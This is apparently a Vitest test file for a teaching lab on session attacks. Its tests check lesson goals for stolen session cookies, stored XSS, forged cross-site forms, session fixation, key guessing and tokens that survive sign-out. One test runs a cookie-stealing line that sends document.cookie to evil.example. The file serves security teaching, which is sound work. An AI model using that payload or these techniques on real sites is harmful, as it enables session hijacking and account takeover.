import { expect, test } from 'vitest';
import { settled } from '../../../src/lab/page-user.ts';
import type { Lab } from '../../../src/lab/lab.svelte.ts';
import type { TraceCode } from '../../../src/server/trace-codes.ts';
import {
  product,
  reviewForm,
} from '../../../src/tutorial/chapters/session-attacks/alices-visit.ts';
import { thief, tryAll } from '../../../src/tutorial/chapters/session-attacks/scripts.ts';
import { chapter } from '../../../src/tutorial/chapters/session-attacks/steps.ts';
import { runLine } from '../../../src/tutorial/console.ts';
import { traced } from '../../../src/tutorial/observations.ts';
import {
  addBread,
  alice,
  mallory,
  shop,
  shopCookie,
  signIn,
} from '../../../src/tutorial/preparations.ts';
import { testLesson } from './lesson-lab.ts';

async function entered(step: string) {
  const set = testLesson(chapter);
  await set.lesson.enter(step);
  const reached = () => {
    set.lesson.settle();
    return set.lesson.goals.filter((goal) => goal.reached).map(({ slug }) => slug);
  };
  return { ...set, reached };
}

/** Opens a page that acts by itself, until the server has taken that step. */
async function open(lab: Lab, url: string, code: TraceCode): Promise<void> {
  const before = lab.exchanges.length;
  await lab.visit(url);
  await expect
    .poll(() => lab.exchanges.slice(before).some((one) => traced(one, code)), { timeout: 10_000 })
    .toBe(true);
  await settled(lab);
}

async function comeWith(lab: Lab, name: string, value: string): Promise<void> {
  lab.showBrowser(mallory);
  await lab.visit(`${shop}/`);
  lab.addCookie(name, value);
  await lab.visit(`${shop}/account`);
}

const order = { action: `${shop}/orders`, method: 'post', entries: [] } as const;

test('Alice opening her own account is nobody who broke in', async () => {
  const { lab, reached } = await entered('copied-key');
  await lab.visit(`${shop}/account`);
  expect(reached()).toEqual([]);
});

test('the copy works from a private window as well', async () => {
  const { lab, reached } = await entered('copied-key');
  const key = shopCookie(lab, 'sid')?.value ?? '';
  lab.showBrowser(mallory);
  await lab.openPrivateWindow();
  await lab.visit(`${shop}/`);
  lab.addCookie('sid', key);
  await lab.visit(`${shop}/cart`);
  expect(reached()).toEqual(['as-alice']);
});

test('what Mallory’s own browser sends to her is no loot; any page that carries Alice’s key away is', async () => {
  const { lab, reached } = await entered('stored-xss');
  lab.showBrowser(mallory);
  await lab.visit(product);
  await lab.submitForm(reviewForm(thief));
  await expect.poll(() => lab.loot.length).toBe(1);
  expect(reached()).toEqual(['planted']);
  lab.showBrowser(alice);
  await lab.visit(`${shop}/`);
  await runLine(lab, "new Image().src = 'https://evil.example/collect?' + document.cookie");
  await expect.poll(reached).toEqual(['planted', 'collected']);
});

test('with HttpOnly off nothing is empty-handed', async () => {
  const { lab, reached } = await entered('http-only-limits');
  lab.changeCookieAttributes({ httpOnly: false });
  await signIn(lab);
  await open(lab, product, 'loot-collected');
  expect(reached()).toEqual([]);
});

test('where the review is escaped from the start the policy has nothing to do', async () => {
  const { lab, reached } = await entered('escape-and-policy');
  lab.changeProtection({ escapeReviews: true, contentSecurityPolicy: true });
  await lab.visit(product);
  expect(reached()).toEqual(['escaped']);
});

test('the bread of whoever presses the button of the trap counts too; her own order does not', async () => {
  const { lab, reached } = await entered('forged-form');
  await lab.submitForm(order);
  expect(reached()).toEqual([]);
  await addBread(lab);
  await lab.visit('https://evil.example/');
  await lab.submitForm(order);
  expect(reached()).toEqual(['sent-itself']);
});

test('Strict keeps the forged form out as Lax does', async () => {
  const { lab, reached } = await entered('forged-form');
  lab.changeCookieAttributes({ sameSite: 'strict' });
  await signIn(lab);
  await open(lab, 'https://evil.example/form', 'sign-in-required');
  expect(reached()).toEqual(['lax']);
});

test('Strict lets the neighbour through', async () => {
  const { lab, reached } = await entered('from-next-door');
  lab.changeCookieAttributes({ sameSite: 'strict' });
  await signIn(lab);
  await open(lab, 'https://blog.shop.example/form', 'order-written');
  expect(reached()).toEqual(['through']);
});

test.each([
  [{ checkOrigin: true }, 'request-origin-refused'],
  [{ checkFetchSite: true }, 'fetch-site-refused'],
  [{ formToken: 'signed-double-submit' }, 'form-token-missing'],
] as const)('the neighbour is refused with %o as well', async (defence, code) => {
  const { lab, reached } = await entered('from-next-door');
  lab.changeProtection(defence);
  await open(lab, 'https://blog.shop.example/form', code);
  expect(reached()).toEqual(['refused']);
});

test('the signed token does not fall to the neighbour’s cookie', async () => {
  const { lab, reached } = await entered('from-next-door');
  lab.changeProtection({ formToken: 'signed-double-submit' });
  const trap =
    'https://blog.shop.example/form?token=mallory&cookie=csrf&value=mallory&path=/orders';
  await open(lab, trap, 'form-token-wrong');
  expect(reached()).toEqual(['refused']);
});

test('a key planted by a neighbour’s cookie is as good as one by a link', async () => {
  const { lab, reached } = await entered('fixation');
  const key = shopCookie(lab, 'sid', mallory)?.value ?? '';
  await lab.visit(`https://blog.shop.example/?cookie=sid&value=${key}`);
  await signIn(lab);
  lab.showBrowser(mallory);
  await lab.visit(`${shop}/account`);
  expect(reached()).toEqual(['planted', 'fixed']);
});

test('guessing by hand counts like guessing by a loop', async () => {
  const { lab, reached } = await entered('guessing');
  await comeWith(lab, 'sid', shopCookie(lab, 'sid')?.value ?? '');
  expect(reached()).toEqual(['guessed']);
});

test('tries against a short key, however many, say nothing of long ones', async () => {
  const { lab, reached } = await entered('guessing');
  lab.showBrowser(mallory);
  await lab.visit(`${shop}/`);
  lab.changeSettings({ sessionIdBits: 128 });
  await runLine(lab, tryAll);
  expect(reached()).toEqual(['guessed']);
});

test('a key that Mallory had from elsewhere was not overheard', async () => {
  const { lab, reached } = await entered('in-the-clear');
  await comeWith(lab, 'sid', shopCookie(lab, 'sid')?.value ?? '');
  expect(reached()).toEqual([]);
});

test('a token used before Alice has signed out proves nothing about signing out', async () => {
  const { lab, reached } = await entered('after-sign-out');
  lab.changeSettings({ remember: 'jwt-cookie' });
  await signIn(lab);
  const copy = shopCookie(lab, 'token')?.value ?? '';
  await comeWith(lab, 'token', copy);
  expect(reached()).toEqual([]);
  lab.showBrowser(alice);
  await lab.submitForm({ action: `${shop}/logout`, method: 'post', entries: [] });
  lab.showBrowser(mallory);
  await lab.reload();
  expect(reached()).toEqual(['token-lives']);
});
